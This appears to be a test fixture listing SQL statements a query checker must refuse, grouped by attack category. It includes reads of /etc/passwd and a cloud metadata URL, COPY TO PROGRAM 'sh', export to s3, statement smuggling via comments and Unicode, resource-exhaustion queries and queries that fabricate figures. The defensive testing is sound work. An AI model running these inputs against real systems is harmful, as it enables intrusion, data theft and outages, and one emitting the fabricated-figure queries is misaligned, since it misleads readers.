--# Further statements that a checker must REFUSE, same format as adversarial.sql. Written before the rules were tuned on them.

--# [write] DML, DDL, transactions, maintenance
INSERT OR REPLACE INTO refusals BY NAME SELECT * FROM refusals
INSERT INTO main.refusals DEFAULT VALUES
UPDATE refusals SET withdrawn = false WHERE withdrawn RETURNING *
DELETE FROM refusals USING reports WHERE refusals.report_id = reports.report_id
CREATE OR REPLACE MACRO year(x) AS 2017
CREATE TABLE IF NOT EXISTS t AS FROM refusals
ALTER TABLE refusals ADD COLUMN fake INTEGER DEFAULT 1
DROP SCHEMA main CASCADE
START TRANSACTION READ ONLY
ABORT
FORCE CHECKPOINT
SELECT count(*) FROM refusals RETURNING *

--# [file-read] Table functions and replacement scans that read files
SELECT * FROM read_csv(['/etc/passwd', '/etc/group'])
SELECT * FROM sqlite_scan('/tmp/x.db', 't')
SELECT * FROM refusals r JOIN LATERAL read_text(r.facility) t ON true
SELECT (FROM read_text('/etc/hostname') SELECT content)
FROM (FROM (FROM read_blob('/etc/hostname')))
SELECT * FROM "refusals.csv"
SELECT * FROM `read_text`('/etc/hostname')
SELECT count(*) FROM refusals WHERE county = (SELECT filename FROM glob('/home/*') LIMIT 1)
WITH f AS MATERIALIZED (SELECT content FROM read_text('/etc/hostname')) SELECT r.county, f.content FROM refusals r JOIN f ON f.content = r.county
SELECT count(*) FROM parquet_kv_metadata('/tmp/x.parquet')
SELECT * FROM delta_scan('/tmp/x')
SELECT * FROM 'refusals'
SELECT read_text('/etc/hostname') FROM refusals
SELECT * FROM read_json_auto('http://169.254.169.254/latest/meta-data/')

--# [file-write] Writing or exporting
COPY (SELECT * FROM refusals) TO PROGRAM 'sh'
EXPORT DATABASE '/tmp/x' (FORMAT parquet)
COPY refusals TO 's3://bucket/refusals.parquet'
SELECT * FROM refusals INTO OUTFILE '/tmp/x'

--# [attach-ext] Attach, extensions, secrets, catalogs
ATTACH IF NOT EXISTS '/tmp/o.duckdb' AS desk2 (READ_ONLY false)
SELECT * FROM desk.main.refusals
SELECT * FROM desk.refusals
SELECT * FROM memory.main.refusals
SELECT * FROM "main.refusals"
SELECT r.county FROM refusals AS r, temp.refusals AS t WHERE r.county = t.county
CREATE PERSISTENT SECRET x (TYPE s3)
ALTER DATABASE desk RENAME TO other
SELECT * FROM refusals_rows
SELECT count(*) FROM base.refusals
SELECT count(*) FROM main.duckdb_tables()

--# [config] Session and engine configuration
SET SESSION threads = 64
SET GLOBAL max_execution_time = 0
SET schema = 'temp'
SET VARIABLE x = (SELECT count(*) FROM refusals)
PRAGMA disable_optimizer
PRAGMA version
PRAGMA show_tables
RESET SESSION threads
CHECKPOINT desk
CALL force_checkpoint()

--# [introspect] Leaks about the host, other users' questions, catalog
SELECT current_schema() FROM refusals
SELECT count(*) FROM refusals WHERE current_user = 'duckdb'
SELECT table_name FROM information_schema.columns
SELECT current_setting('threads') AS n, count(*) FROM refusals
SELECT user, count(*) FROM refusals GROUP BY ALL
SELECT session_user FROM refusals
SELECT * FROM duckdb_memory()
SELECT * FROM duckdb_variables()
SELECT pg_typeof(county) FROM refusals
SELECT typeof(county), count(*) FROM refusals GROUP BY 1
SELECT obj_description(1) FROM refusals
SELECT getenv('HOME') || county FROM refusals
SELECT current_catalog FROM refusals
SELECT in_search_path('main', 'main') FROM refusals
SELECT has_table_privilege('refusals', 'select'), count(*) FROM refusals
SELECT pg_backend_pid(), count(*) FROM refusals
SELECT alias(county) FROM refusals
SELECT stats(county) FROM refusals LIMIT 1
SELECT txid_current() AS n, count(*) FROM refusals

--# [indirect] SQL hidden in strings, prepared or explained
SELECT count(*) FROM query('FROM refusals')
SELECT list_aggregate(list(county), 'string_agg') FROM refusals
SELECT list_reduce(list(row_no), lambda a, b: a + b) FROM refusals
SELECT array_aggr(list(row_no), 'sum') FROM refusals
SELECT apply(list(county), lambda x: upper(x)) FROM refusals
SELECT count(*) FROM refusals WHERE county = $county
SELECT count(*) FROM refusals WHERE county = :county
SELECT [x FOR x IN list(county)] FROM refusals
SELECT json_execute_serialized_sql('{}') FROM refusals
SELECT eval('1+1') FROM refusals
EXECUTE p('x')
PREPARE v1 AS SELECT count(*) FROM refusals WHERE county = $1
SELECT getvariable('county') || county FROM refusals
SELECT count(*) FROM IDENTIFIER('refusals')
SELECT refusals FROM refusals
SELECT count(r) FROM refusals r
SELECT r FROM refusals r LIMIT 1
SELECT try(county) FROM refusals

--# [multi] Several statements, comments, parser differentials
SELECT count(*) FROM refusals;;SELECT 1
SELECT count(*) FROM refusals;⏎⏎;⏎ATTACH ':memory:'
/* ; */ SELECT count(*) FROM refusals; /* ; */ DROP VIEW refusals
SELECT count(*) FROM refusals -- x;⏎; DELETE FROM refusals
BEGIN; SELECT count(*) FROM refusals; COMMIT
SELECT 'a' || E'\'; DROP VIEW refusals; --' FROM refusals
SELECT count(*) FROM refu­sals
SELECT count(*) FROM refusals WHERE county = 'Trav‮is'
SELECT count(*) /* hidden​blank */ FROM refusals
SELECT count(*) FROM refusals﻿
SELECT count(*) FROM refusals WHERE county = 'x '
SELECT count(*) FROM refusals WHERE county = 'xㅤ'
SELECT count(*) FROM refusals WHERE county = '⁦Travis⁩'
/*/**/ SELECT count(*) FROM refusals
SELECT count(*) FROM refusals UNION ALL (SELECT 1; SELECT 2)
--

--# [resource] Time and memory exhaustion
SELECT count(*) FROM refusals a JOIN refusals b ON a.state = b.state OR a.county = b.county
SELECT count(*) FROM refusals a JOIN refusals b ON a.row_no < b.row_no
SELECT count(*) FROM refusals a, refusals b WHERE a.row_no > b.row_no
SELECT rpad(county, 100000000, 'x') FROM refusals
SELECT lpad(county, 100000000) FROM refusals
SELECT county || county FROM refusals
SELECT concat(county, ', ', county) FROM refusals
WITH a AS (SELECT county || state AS x, county AS y FROM refusals) SELECT x || y FROM a
SELECT replace(replace(county, 'a', 'aaaaaaaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaa') FROM refusals
SELECT replace(county, 'a', facility) FROM refusals
SELECT regexp_replace(facility, '(.*)', '\1\1\1\1\1\1\1\1', 'g') FROM refusals
SELECT bar(row_no, 0, 10, 100000000) FROM refusals
SELECT format('{:100000000d}', row_no) FROM refusals
SELECT range(row_no * 100000000) FROM refusals
SELECT array_resize(list(county), 1000000000) FROM refusals
SELECT list_concat(list(county), list(county)) FROM refusals
SELECT factorial(100000) FROM refusals
SELECT generate_series(0, 100000000) FROM refusals
SELECT hex(repeat('a', 100000000)) FROM refusals
SELECT count(*) FROM refusals a JOIN refusals b USING (state) JOIN refusals c USING (state) JOIN refusals d USING (state) JOIN refusals e USING (state) JOIN refusals f USING (state) JOIN refusals g USING (state) JOIN refusals h USING (state) JOIN refusals i USING (state) JOIN refusals j USING (state)
SELECT a.county FROM (SELECT county FROM (SELECT county FROM (SELECT county FROM (SELECT county FROM (SELECT county FROM (SELECT county FROM refusals))))))  a
SELECT string_agg(county, (SELECT string_agg(facility, '') FROM refusals)) FROM refusals
SELECT r.county FROM refusals r CROSS JOIN refusals q
SELECT r.county, q.county FROM refusals r LEFT JOIN refusals q ON true
SELECT county FROM refusals LIMIT 1001
SELECT county FROM refusals LIMIT (SELECT max(row_no) FROM refusals)
SELECT county FROM refusals LIMIT 10 + 10
SELECT county FROM refusals LIMIT 50 PERCENT
SELECT county FROM refusals LIMIT -1

--# [side-effect] Side effects, randomness, spoofed messages
SELECT count(*) FROM refusals WHERE declined_on < current_timestamp
SELECT count(*) FROM refusals WHERE declined_on < localtimestamp
SELECT gen_random_uuid() FROM refusals
SELECT county FROM refusals ORDER BY random() LIMIT 5
SELECT count(*) FROM (SELECT * FROM refusals USING SAMPLE reservoir(50 ROWS) REPEATABLE (1))
SELECT reservoir_quantile(row_no, 0.5) FROM refusals
SELECT approx_count_distinct(county) FROM refusals
SELECT approx_quantile(row_no, 0.5) FROM refusals
SELECT currval('s') FROM refusals
SELECT CASE WHEN count(*) > 0 THEN error('no') END FROM refusals
SELECT age(declined_on) FROM refusals
SELECT get_current_time() FROM refusals
SELECT hash(county) FROM refusals
SELECT epoch_ms(now()) FROM refusals

--# [pyscan] Python objects and raw pointers (in-process DuckDB)
SELECT * FROM df
SELECT r.county FROM refusals r JOIN df d ON d.county = r.county
SELECT * FROM pandas_scan(0, 0)
SELECT * FROM arrow_scan_dumb(0, 0, 0)

--# [unknown] Names that are not among the query views and their columns
SELECT r.county FROM refusals r JOIN reports p USING (county)
SELECT county FROM reports
SELECT x.county FROM refusals r
SELECT main.county FROM refusals
SELECT refusals.county FROM refusals r
SELECT county FROM refusals r JOIN policies p ON p.report_id = r.report_id AND p.row_no = r.row_no
SELECT count(*) FROM refusals WHERE perpetrator = 'x'
SELECT refusals."county " FROM refusals
SELECT * FROM refusals WHERE state = "Texas"
SELECT county.name FROM refusals
SELECT * EXCLUDE (nothing) FROM refusals
SELECT COLUMNS(c -> c LIKE 'c%') FROM refusals
SELECT min(COLUMNS(*)) FROM refusals
SELECT * LIKE 'c%' FROM refusals
SELECT * RENAME (county AS state2) FROM refusals
SELECT unnest(string_split(offense, ' ')) FROM refusals
SELECT county FROM refusals AS r(a, b, c)
SELECT 1 FROM nowhere

--# [ungrounded] Figures that do not come from the reports, or come from the wrong rows
SELECT county, 17 AS declined FROM refusals
SELECT '4231' AS declined FROM refusals
SELECT county, '4,231' AS declined FROM refusals
SELECT county, CAST('4231' AS INTEGER) AS declined FROM refusals
SELECT '42' || '31' AS declined, county FROM refusals
SELECT concat('4', count(*)) AS declined FROM refusals
SELECT count(*) || '00' AS declined FROM refusals
SELECT length('aaaaaaaaaa') AS declined, county FROM refusals
SELECT instr('aaaaaaaaaab', 'b') AS declined, county FROM refusals
SELECT length(CASE WHEN disposition = 'charge' THEN 'aaa' ELSE 'bbbbb' END) AS declined FROM refusals
SELECT CAST(CASE WHEN disposition = 'charge' THEN '30' ELSE '50' END AS INTEGER) AS n FROM refusals
SELECT sum(CASE WHEN disposition = 'charge' THEN 5 ELSE 1 END) AS n FROM refusals
SELECT sum(2) AS n FROM refusals
SELECT max(500) AS n FROM refusals
SELECT avg(77) AS n FROM refusals
SELECT coalesce(max(issued_nationwide), 3000) FROM reports
SELECT ifnull(max(issued_nationwide), 3000) FROM reports
SELECT count(*) + 10 AS n FROM refusals
SELECT count(*) - 10 AS n FROM refusals
SELECT 500 - count(*) AS n FROM refusals
SELECT count(*) % 10 AS n FROM refusals
SELECT count(*) // 2 AS n FROM refusals
SELECT power(count(*), 2) AS n FROM refusals
SELECT count(*) ** 2 AS n FROM refusals
SELECT count(*) * 100 AS declined FROM refusals
SELECT count(*) / 7 AS per_day FROM refusals
SELECT count(*) / 365 AS per_day FROM refusals
SELECT count(*) + count(*) AS declined FROM refusals
SELECT count(*) - count(*) AS declined FROM refusals
SELECT count(*) / count(*) AS share FROM refusals
SELECT (SELECT count(*) FROM refusals) + (SELECT count(*) FROM refusals) AS declined
SELECT least(count(*), 12) AS declined FROM refusals
SELECT lag(count(*), 1, 99) OVER (ORDER BY state) AS n, state FROM refusals GROUP BY state
SELECT report_id, lead(issued_nationwide, 1, 2500) OVER (ORDER BY report_id) FROM reports
SELECT if(count(*) > 0, 42, 43) AS n FROM refusals
SELECT nullif(count(*), count(*)) AS n FROM refusals
SELECT nullif(500, count(*)) AS n FROM refusals
SELECT CASE WHEN county = 'Travis' THEN 142 ELSE 17 END AS n FROM refusals
WITH c AS (SELECT 3 AS factor FROM reports) SELECT count(*) * max(c.factor) AS n FROM refusals r JOIN c ON true
WITH t AS (SELECT county, 500 AS n FROM refusals) SELECT county, max(n) AS n FROM t GROUP BY county
WITH t AS (SELECT county, 5 AS n FROM refusals) SELECT sum(n) FROM t
SELECT n FROM (SELECT 999 AS n, county FROM refusals)
SELECT county, count(*) AS n FROM refusals GROUP BY county UNION ALL SELECT 'Harris', 99
SELECT county, count(*) AS n FROM refusals GROUP BY county UNION ALL SELECT county, 99 FROM refusals
SELECT count(*) AS n FROM refusals UNION SELECT 5 FROM reports
SELECT count(*) AS n FROM refusals INTERSECT SELECT 318
SELECT [4231, count(*)][1] AS n FROM refusals
SELECT list_extract([7, 8, 9], 2) AS n FROM refusals
SELECT len([1, 2, 3]) AS n, county FROM refusals
SELECT {'declined': 4231} AS r, county FROM refusals
SELECT DATE '2017-02-01' AS first_day, count(*) FROM refusals
SELECT coalesce(posted_on, DATE '2017-03-20') AS posted FROM reports
SELECT date_diff('day', DATE '2017-01-01', DATE '2017-05-01') AS days, county FROM refusals
SELECT DATE '2017-05-01' - DATE '2017-01-01' AS days FROM refusals
SELECT year(DATE '4231-01-01') AS n, county FROM refusals
SELECT declined_on + 30 AS due FROM refusals
SELECT year(declined_on + INTERVAL 2000 YEAR) AS n FROM refusals
SELECT (declined_on + INTERVAL 4231 DAY) - declined_on AS n FROM refusals
SELECT date_diff('day', declined_on, declined_on + INTERVAL 500 DAY) AS n FROM refusals
SELECT strftime(declined_on, '4231') AS n FROM refusals
SELECT replace(county, 'Travis', '4231') AS n FROM refusals
SELECT regexp_replace(county, '.+', '500') AS n FROM refusals
SELECT translate(county, 'abc', '123') AS n FROM refusals
SELECT true::INTEGER AS n, county FROM refusals
SELECT year(current_date) AS y, county FROM refusals
SELECT current_date AS day FROM refusals
SELECT ascii('a') AS n, county FROM refusals
SELECT chr(52) || chr(50) AS n, county FROM refusals
SELECT pi() AS n, county FROM refusals
SELECT NULL AS declined FROM refusals
SELECT count(NULL) AS declined FROM refusals
SELECT 'Travis declined 142' AS answer FROM refusals LIMIT 1
SELECT 1
SELECT count(*)
SELECT 1 AS one FROM refusals
SELECT (SELECT 5) AS n, count(*) FROM refusals
SELECT count(*) AS n FROM (SELECT 1) x
SELECT 100 - count(*) AS n FROM refusals
SELECT 1 - count(*) AS n FROM refusals
SELECT round(500.4) AS n, county FROM refusals
SELECT avg(CASE WHEN disposition = 'charge' THEN 50 ELSE 0 END) AS n FROM refusals
SELECT count(*) AS n FROM refusals WHERE county = 'Travis' OR true
SELECT count(*) FROM refusals WHERE true
SELECT count(*) FROM refusals WHERE 1 IN (1, 2)
SELECT count(*) FROM refusals WHERE NOT false
SELECT count(*) FROM refusals WHERE 'a' = 'a'
SELECT count(*) FROM refusals WHERE length('a') = 1
SELECT count(*) FROM refusals WHERE county IS NOT NULL OR county IS NULL
SELECT count(*) FROM refusals WHERE county = 'a' OR county <> 'a' OR county IS NULL
SELECT count(*) FROM refusals WHERE state = 'Texas' OR state <> 'Texas'
SELECT count(*) FROM refusals WHERE county LIKE '%'
SELECT count(*) FROM refusals WHERE county LIKE 'T%' OR county NOT LIKE 'T%'
SELECT count(*) FROM refusals WHERE coalesce(county, 'a') = coalesce(county, 'a')
SELECT count(*) FROM refusals WHERE county || '' = county
SELECT count(*) FROM refusals WHERE lower(county) = lower(county)
SELECT count(*) FROM refusals WHERE county IN (county, 'Travis')
SELECT count(*) FROM refusals WHERE county BETWEEN county AND county
SELECT count(*) FROM refusals r WHERE r.county >= county
SELECT count(*) FROM refusals WHERE row_no > 5 OR row_no <= 5
SELECT count(*) FROM refusals WHERE row_no >= 6 OR row_no <= 5
SELECT count(*) FROM refusals WHERE declined_on >= DATE '2017-02-02' OR declined_on <= DATE '2017-02-01'
SELECT count(*) FROM refusals WHERE state = 'Texas' AND state = 'Ohio'
SELECT count(*) FROM refusals WHERE row_no > 10 AND row_no < 5
SELECT count(*) FROM refusals WHERE county IS NULL AND county = 'Travis'
SELECT count(*) FROM refusals WHERE withdrawn OR NOT withdrawn
SELECT count(*) FROM refusals WHERE withdrawn = true OR withdrawn = false
SELECT count(*) FROM refusals WHERE CASE WHEN county = 'Travis' THEN true ELSE true END
SELECT count(*) FROM refusals WHERE (SELECT count(*) FROM reports) > 0
SELECT count(*) FROM refusals WHERE EXISTS (SELECT 1 FROM reports)
SELECT count(*) FROM refusals WHERE county = 'Travis' OR EXISTS (SELECT 1 FROM policies WHERE state = 'Texas')
SELECT count(*) FROM refusals WHERE county IN (SELECT county FROM refusals)
SELECT count(*) FILTER (WHERE true) AS n FROM refusals
SELECT count(*) FILTER (WHERE 1 = 1) AS n FROM refusals
SELECT sum(CASE WHEN true THEN 1 ELSE 0 END) AS n FROM refusals
SELECT state, count(*) FROM refusals GROUP BY state HAVING true
SELECT state, count(*) AS n FROM refusals GROUP BY state HAVING count(*) >= 0
SELECT state, count(*) FROM refusals GROUP BY state HAVING count(*) = count(*)
SELECT count(*) FROM (SELECT county AS a, county AS b FROM refusals) WHERE a = b
SELECT count(*) FROM refusals WHERE length(county) >= 0
SELECT count(*) FROM refusals WHERE coalesce(county, 'x') IS NOT NULL
SELECT count(*) FROM refusals WHERE NULL IS NULL
SELECT count(*) FROM refusals WHERE regexp_matches(county, '.*')
SELECT county FROM refusals QUALIFY true
SELECT DISTINCT 'Travis' AS county FROM refusals

--# [fanout] Joins that multiply rows, so the total is too high
SELECT count(*) FROM refusals a JOIN refusals b ON a.county = b.county
SELECT count(*) FROM refusals a JOIN refusals b USING (report_id)
SELECT count(*) FROM refusals r JOIN issued i ON i.county = r.county
SELECT count(*) FROM refusals r JOIN policies p USING (report_id)
SELECT count(*) FROM refusals r, policies p WHERE p.report_id = r.report_id
SELECT count(r.row_no) FROM refusals r LEFT JOIN policies p ON p.county = r.county AND p.state = r.state
SELECT count(*) FROM (SELECT r.county FROM refusals r JOIN caveats c USING (report_id))
SELECT count(*) FROM (SELECT r.* FROM refusals r JOIN policies p USING (report_id)) WHERE state = 'Texas'
WITH j AS (SELECT p.report_id, p.issued_nationwide FROM reports p JOIN refusals r USING (report_id)) SELECT sum(issued_nationwide) FROM j
WITH j AS (SELECT p.report_id, p.declined_stated AS d, r.county FROM reports p JOIN refusals r USING (report_id)) SELECT county, sum(d) FROM j GROUP BY county
SELECT sum(x) FROM (SELECT r.county, max(p.issued_nationwide) AS x FROM reports p JOIN refusals r USING (report_id) GROUP BY p.report_id, r.county)
SELECT sum(issued_nationwide) FROM (SELECT DISTINCT p.report_id, r.state, p.issued_nationwide FROM reports p JOIN refusals r USING (report_id))
SELECT sum(issued) FROM (SELECT DISTINCT county, issued FROM issued)
SELECT sum(DISTINCT issued) FROM issued
SELECT avg(DISTINCT issued_nationwide) FROM reports
SELECT r.state, sum(i.issued) FROM refusals r JOIN issued i USING (report_id, state) GROUP BY r.state
SELECT sum(i.issued) FROM issued i JOIN policies p ON p.county = i.county AND p.state = i.state AND p.report_id = i.report_id
SELECT sum(p.issued_nationwide) OVER () FROM reports p JOIN refusals r USING (report_id)
SELECT r.county, sum(p.pages) OVER (PARTITION BY r.county) FROM refusals r JOIN reports p USING (report_id)
SELECT p.report_id, sum(p.declined_stated) FROM reports p JOIN refusals r USING (report_id) GROUP BY p.report_id
SELECT median(i.issued) FROM issued i JOIN refusals r USING (report_id, county, state)
SELECT count(*) FROM reports p JOIN refusals r USING (report_id) JOIN caveats c USING (report_id)
SELECT count(*) FROM reports p LEFT JOIN refusals r USING (report_id)
SELECT p.report_id, count(*) FROM reports p LEFT JOIN policies x USING (report_id) GROUP BY 1
SELECT count(*) FROM issued i LEFT JOIN refusals r USING (report_id, county, state)
SELECT i.state, count(1) FROM issued i LEFT JOIN refusals r USING (report_id, county, state) GROUP BY i.state
SELECT count(*) FROM refusals r FULL JOIN issued i USING (report_id, county, state)
SELECT count(*) FROM refusals r RIGHT JOIN issued i USING (report_id, county, state)
SELECT count(*) FROM (SELECT * FROM refusals UNION ALL SELECT * FROM refusals)
SELECT count(*) FROM (SELECT county FROM refusals WHERE state = 'Texas' UNION ALL SELECT county FROM refusals WHERE disposition = 'charge')
SELECT sum(n) FROM (SELECT count(*) AS n FROM refusals UNION ALL SELECT count(*) AS n FROM refusals WHERE state = 'Texas')
SELECT sum(n) FROM (SELECT state, count(*) AS n FROM refusals GROUP BY ROLLUP (state))
SELECT state, count(*) AS n, sum(count(*)) OVER () AS total FROM refusals GROUP BY ROLLUP (state)
SELECT sum(running) FROM (SELECT sum(n) OVER (ORDER BY report_id) AS running FROM (SELECT report_id, count(*) AS n FROM refusals GROUP BY report_id))
SELECT sum((SELECT count(*) FROM refusals r WHERE r.county = p.county AND r.state = p.state)) FROM policies p
SELECT sum((SELECT count(*) FROM refusals)) AS n FROM reports
SELECT sum(g.n) FROM policies p JOIN (SELECT county, state, count(*) AS n FROM refusals GROUP BY county, state) g ON g.county = p.county AND g.state = p.state
SELECT avg(g.n) FROM refusals r JOIN (SELECT report_id, count(*) AS n FROM policies GROUP BY report_id) g USING (report_id)
SELECT count(c.correction_id) FROM corrections c JOIN refusals r ON r.report_id = c.report_id AND r.county = c.county AND r.state = c.state
SELECT count(*) FROM refusals r JOIN corrections c ON r.report_id = c.report_id AND r.county = c.county AND r.state = c.state
SELECT string_agg(p.policy, '; ') FROM policies p JOIN refusals r USING (report_id, county, state)
SELECT len(list(p.row_no)) FROM policies p JOIN refusals r USING (report_id)
SELECT x.county, count(*) FROM policies x JOIN issued i USING (county, state) GROUP BY x.county
SELECT sum(i.issued) FROM issued i JOIN reports p ON p.report_id = i.report_id JOIN refusals r ON r.report_id = p.report_id
SELECT sum(a.issued_nationwide) FROM reports a JOIN reports b ON a.period_start <= b.period_start AND a.sample = b.sample
SELECT round(100.0 * count(*) / sum(i.issued), 1) FROM refusals r JOIN issued i USING (report_id, county, state)
SELECT count(*) FILTER (WHERE r.disposition = 'charge') FROM refusals r JOIN caveats c USING (report_id)
SELECT sum(CASE WHEN r.disposition = 'charge' THEN 1 ELSE 0 END) FROM refusals r JOIN policies p USING (report_id)
SELECT count_if(r.disposition = 'charge') FROM refusals r JOIN policies p USING (report_id)
SELECT avg((r.disposition = 'charge')::INTEGER) FROM reports p LEFT JOIN refusals r USING (report_id)
SELECT count(coalesce(r.county, 'none')) FROM issued i LEFT JOIN refusals r USING (report_id, county, state)

--# [policy] Refused by decision, though each looks harmless
SELECT * FROM refusals NATURAL JOIN reports
SELECT * FROM refusals r ASOF JOIN reports p ON r.report_id = p.report_id AND r.declined_on >= p.period_start
SELECT p.* FROM policies AS p(a, b)
SELECT s.state, count(*) FROM (SELECT DISTINCT state FROM refusals) AS refusals JOIN policies s USING (state) GROUP BY 1
WITH issued AS (SELECT * FROM refusals) SELECT count(*) FROM issued
SELECT count(*) FROM reports issued
SELECT policies.county FROM refusals policies
WITH RECURSIVE x AS (SELECT county FROM refusals) SELECT county FROM x
SELECT county, row_number() OVER () AS n FROM refusals
SELECT first(county) FROM refusals
SELECT count(*) FROM (SELECT DISTINCT ON (county) * FROM refusals)
SELECT avg(row_no) FROM (SELECT row_no FROM refusals OFFSET 5)
SELECT count(*) FROM refusals WHERE county IN (SELECT county FROM issued LIMIT 3)
SELECT state, count(*) AS n FROM (SELECT state FROM refusals LIMIT 100) GROUP BY state
SELECT count(*) FROM (SELECT * FROM refusals QUALIFY row_number() OVER () <= 10)
SELECT date_part('epoch', now()) FROM refusals
SELECT * FROM refusals WHERE declined_on > today() - 30 AND random() > 0
SELECT (VALUES (1)) AS n, county FROM refusals
SELECT count(*) FROM refusals r JOIN (VALUES ('Texas')) v(s) ON v.s = r.state
SELECT * FROM (UNPIVOT issued ON issued INTO NAME k VALUE v)
UNPIVOT issued ON issued INTO NAME k VALUE v
SELECT * FROM (PIVOT refusals ON disposition USING count(*))
SUMMARIZE SELECT * FROM refusals
SELECT county FROM refusals WHERE county = ANY (['Travis'])[1:1] AND 1 = 1

--# [mixed] A second round, against the rules as they stood after the first
SELECT date_diff('day', declined_on, date_add(declined_on, INTERVAL 500 DAY)) FROM refusals
SELECT count(*) + CASE WHEN count(*) > 0 THEN 1 ELSE 0 END FROM refusals
SELECT county, '142 refusals' AS declined FROM refusals
SELECT (SELECT max(5) FROM refusals) AS n, count(*) FROM refusals
SELECT sum(list_first([5])) FROM refusals
SELECT list_max([5, row_no]) FROM refusals
SELECT count(*) FROM refusals r JOIN reports p ON (r.report_id, 1) = (p.report_id, 1)
SELECT count(*) FROM refusals r JOIN refusals q ON (r.report_id, r.state) = (q.report_id, q.state)
SELECT county FROM refusals r LEFT JOIN reports p ON true
SELECT max(row_no, 100000000) FROM refusals
SELECT string_agg(x, '') OVER () FROM (SELECT string_agg(offense, '') OVER () AS x FROM refusals)
SELECT avg(n) FROM (SELECT p.report_id, count(*) n FROM policies p JOIN refusals r USING (report_id) GROUP BY p.report_id)
SELECT count(*) FROM refusals WHERE state = 'Texas' OR state IN (SELECT state FROM refusals)
SELECT count(*) FROM refusals WHERE EXISTS (SELECT 1 FROM reports p WHERE p.report_id = p.report_id)
SELECT count(*) FROM refusals r WHERE EXISTS (SELECT 1 FROM refusals q WHERE q.report_id = r.report_id AND q.row_no = r.row_no)
SELECT count(*) FROM refusals WHERE 'x' LIKE 'x%'
SELECT count(*) FROM refusals WHERE (county = 'Travis') IS NULL OR (county = 'Travis') IS NOT NULL
SELECT count(*) FROM refusals WHERE CASE WHEN county IS NULL THEN 1 ELSE 1 END = 1
SELECT count(*) FROM refusals WHERE current_date > DATE '2017-01-01'
SELECT count(*) FROM refusals WHERE state LIKE state || '%'
SELECT count(*) FROM refusals WHERE starts_with(state, '')
SELECT count(*) FROM refusals WHERE contains(county, '')
SELECT count(*) FROM refusals WHERE length(county) > -1
SELECT count(*) FROM refusals WHERE -1 < length(county)
SELECT count(*) FROM refusals WHERE abs(row_no) >= 0
SELECT count(*) FROM refusals WHERE row_no * 0 = 0
SELECT count(*) FROM refusals WHERE row_no - row_no = 0
SELECT count(*) FROM refusals WHERE nullif(county, county) IS NULL
SELECT count(*) FROM refusals WHERE greatest(row_no, 1) >= 1
SELECT count(*) FROM refusals WHERE concat(county, 'x') <> ''
SELECT count(*) FROM refusals WHERE county || 'x' IS NOT NULL OR county IS NULL
SELECT count(*) FROM refusals WHERE disposition = 'charge' OR NOT disposition = 'charge'
SELECT count(*) FROM refusals WHERE NOT (county = 'x' AND county <> 'x')
SELECT count(*) FROM refusals WHERE coalesce(county = county, true)
SELECT count(*) FROM refusals WHERE (SELECT true)
SELECT count(*) FROM refusals WHERE 1
SELECT count(*) FROM refusals WHERE 1 + 1 = 2
SELECT count(*) FROM refusals WHERE INTERVAL 1 DAY > INTERVAL 1 HOUR
SELECT count(*) FROM refusals WHERE county IN ('Travis') OR county NOT IN ('Travis')
SELECT count(*) FROM refusals WHERE county BETWEEN 'a' AND 'b' OR county NOT BETWEEN 'a' AND 'b'
SELECT count(*) FROM refusals WHERE county SIMILAR TO '.*'
SELECT count(*) FROM refusals WHERE county ~ '.*'
SELECT count(*) FROM refusals WHERE county GLOB '*'
SELECT count(*) FROM refusals WHERE county ILIKE '%%'
SELECT count(*) FROM refusals r JOIN reports p ON p.report_id = r.report_id AND 1 = 1
SELECT count(*) FROM refusals r JOIN reports p ON p.report_id = r.report_id OR p.sample
SELECT count(*) FROM refusals r JOIN reports p ON p.report_id = p.report_id
SELECT count(*) FROM refusals r JOIN reports p ON r.report_id = '2017-01-28' AND p.report_id = '2017-01-28'
SELECT count(*), sum(p.pages) FROM refusals r, reports p WHERE r.report_id = p.report_id
SELECT p.report_id, sum(p.pages) AS s FROM reports p, refusals r WHERE r.report_id = p.report_id GROUP BY ALL
SELECT sum(pages) FROM (SELECT r.row_no, p.pages FROM refusals r LEFT JOIN reports p USING (report_id))
SELECT sum(pages) FROM (SELECT report_id, any_value(pages) AS pages, county FROM refusals JOIN reports USING (report_id) GROUP BY report_id, county)
WITH x AS (SELECT county, count(*) AS n FROM refusals GROUP BY county) SELECT sum(x.n) FROM x JOIN policies p ON p.county = x.county
WITH x AS (SELECT county, count(*) AS n FROM refusals GROUP BY county) SELECT sum(a.n) FROM x a JOIN x b ON a.n = b.n
SELECT count(*) FROM (SELECT * FROM refusals UNION ALL FROM refusals WHERE state = 'Texas')
WITH a AS (SELECT * FROM refusals), b AS (SELECT * FROM a UNION ALL SELECT * FROM a) SELECT state, count(*) FROM b GROUP BY state
SELECT count(*) FROM (SELECT report_id, row_no FROM refusals UNION ALL SELECT report_id, row_no FROM refusals WHERE withdrawn) WHERE report_id = '2017-01-28'
SELECT sum(n) OVER () FROM (SELECT count(*) AS n FROM refusals UNION ALL SELECT count(*) FROM refusals)
SELECT avg(x.issued) FROM (SELECT i.issued, r.row_no FROM issued i LEFT JOIN refusals r USING (report_id, county, state)) x
SELECT r.state, sum(i.issued) / count(*) FROM refusals r JOIN issued i USING (report_id, county, state) GROUP BY r.state
SELECT county, rank() OVER (ORDER BY n) + 100 FROM (SELECT county, count(*) n FROM refusals GROUP BY 1)
SELECT county, CASE county WHEN 'Travis' THEN 'a' ELSE 4231 END FROM refusals
SELECT coalesce(nullif(county, 'Travis'), '4231') FROM refusals
SELECT coalesce(facility, '17') FROM refusals
SELECT county, declined_on + INTERVAL 1 DAY * 4231 - declined_on FROM refusals
SELECT extract(year FROM declined_on + INTERVAL 100 YEAR) FROM refusals
SELECT date_part('day', INTERVAL 42 DAY) AS n, county FROM refusals
SELECT make_date(4231, 1, 1), county FROM refusals
SELECT year(make_date(4231, 1, 1)), county FROM refusals
SELECT date_trunc('year', DATE '4231-01-01'), county FROM refusals
SELECT array_length([1,2,3]) AS n, county FROM refusals
SELECT strpos('xxxxxx' || county, county) AS n FROM refusals
SELECT length(county || 'xxxxxxxxxxxx') - length(county) AS n FROM refusals
SELECT length(concat(left(county, 1), 'xxxxxxx')) AS n FROM refusals
SELECT levenshtein('aaaaaaaaaaaa', 'b') AS n, county FROM refusals
SELECT jaccard('a', 'b'), county FROM refusals
SELECT position('b' IN 'aab') AS n, county FROM refusals
SELECT length('abcd')::VARCHAR || county FROM refusals
SELECT count(*)::VARCHAR || '0' FROM refusals
SELECT left('4231', row_no) FROM refusals
SELECT substr('0123456789', row_no, 1) FROM refusals
SELECT split_part('1,2,3', ',', row_no) FROM refusals
